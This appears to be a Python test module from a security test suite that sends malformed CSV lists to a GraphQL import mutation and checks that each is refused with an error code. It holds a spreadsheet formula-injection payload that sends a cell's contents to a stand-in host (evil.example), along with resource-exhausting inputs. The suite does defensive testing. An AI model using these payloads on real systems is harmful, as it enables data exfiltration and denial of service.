"""Imports of malformed lists: too long, unclosed quotes, too wide, formulas in the cells."""

from __future__ import annotations

from collections.abc import Callable

from bench.attack.enrolled import attack
from bench.attack.ground import Ground, told_of

_IMPORT = """mutation($csv: String!) { officesImport(csv: $csv, reason: "a list", evidence: ["a letter"],
  dryRun: true) { accepted lines { outcome } userErrors { code message } } }"""
_LIST = "name_ru;settlement;kind;category\n"
_FORMULA = '=HYPERLINK("http://evil.example?"&A1)'.replace('"', '""')

LISTS: dict[str, Callable[[], str]] = {
    "of 100,000 lines": lambda: "id,version\n" + "x,1\n" * 100_000,
    "whose quotes never close": lambda: 'id,version,name_ru\nx,1,"' + "a\n" * 100_000,
    "of 10,000 columns": lambda: ";".join(f"c{number}" for number in range(10_000)) + "\n",
    "of formulas": lambda: _LIST + f'"{_FORMULA}";"{_FORMULA}";"{_FORMULA}";"{_FORMULA}"\n' * 500,
    "of names that nobody bears": lambda: (
        _LIST + "".join(f"Отдел {number};Тридевятое {number};OTHER;psc_branch\n" for number in range(1_000))
    ),
}


def _enrol(what: str) -> None:
    """Register the attack by one kind of list."""

    @attack(f"an editor imports a list {what}", refused="INVALID NOT_FOUND")
    def imported(ground: Ground) -> str:
        """Refused with a code, within the time of an ordinary request."""
        return told_of([ground.ask(_IMPORT, ground.token("akm-akkol"), csv=LISTS[what]())])


for _what in LISTS:
    _enrol(_what)
